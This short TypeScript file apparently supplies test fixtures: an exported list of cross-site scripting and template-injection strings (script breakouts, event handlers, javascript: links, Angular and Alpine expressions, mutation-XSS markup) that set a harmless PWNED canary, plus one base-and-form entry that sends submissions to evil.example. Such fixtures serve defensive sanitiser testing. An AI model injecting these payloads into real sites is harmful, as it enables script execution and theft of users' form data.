/** Texts that would take effect if treated as markup or code. */
export const HOSTILE_MARKUP: readonly string[] = [
  "<img src=x onerror=PWNED=1>",
  '"><script>PWNED=1</script>',
  "</script><script>PWNED=1</script>",
  "'-PWNED=1-'",
  "{{ constructor.constructor('PWNED=1')() }}",
  "${PWNED=1}",
  "[x](javascript:PWNED=1)",
  '<a href="java&#10;script:PWNED=1">x</a>',
  "<svg><animate onbegin=PWNED=1>",
  '<div x-init="PWNED=1" x-data>',
  "<math><mtext><style><img src=x onerror=PWNED=1>",
  '<iframe srcdoc="<script>parent.PWNED=1</script>">',
  "');PWNED=1;('",
  '<base href="https://evil.example/"><form action="//evil.example"><input name=q>',
];
